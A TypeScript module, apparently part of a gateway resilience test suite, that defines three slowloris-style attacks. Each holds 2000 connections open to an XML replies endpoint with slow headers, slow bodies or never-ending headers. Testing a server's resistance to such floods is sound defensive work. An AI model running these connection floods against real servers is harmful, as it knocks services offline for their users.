import { scaled, type Attack } from '../attack.ts'
import { flood } from '../flood.ts'

const head = 'POST /api/xmlgetreplies.asp HTTP/1.1\r\nHost: gateway\r\n'

function* slowly(begin: string, piece: string): Iterable<string> {
  yield begin
  for (;;) yield piece
}

export const slowHeaders: Attack = {
  title: '2000 connections with slow headers',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 2000),
      text: () => slowly(head, 'X: y\r\n'),
      answersToText: 0,
      pieceMs: 1000,
    }),
}

export const slowBodies: Attack = {
  title: '2000 connections with slow bodies',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 2000),
      text: () => slowly(`${head}Content-Length: 4000000\r\n\r\n`, '<Svc_Replies>'),
      answersToText: 0,
      pieceMs: 1000,
    }),
}

export const unfinishedHeaders: Attack = {
  title: '2000 connections with 60 kB of headers that never end',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 2000),
      text: () => `${head}X: ${'x'.repeat(60_000)}`,
      answersToText: 0,
    }),
  endsWithin: 40,
}
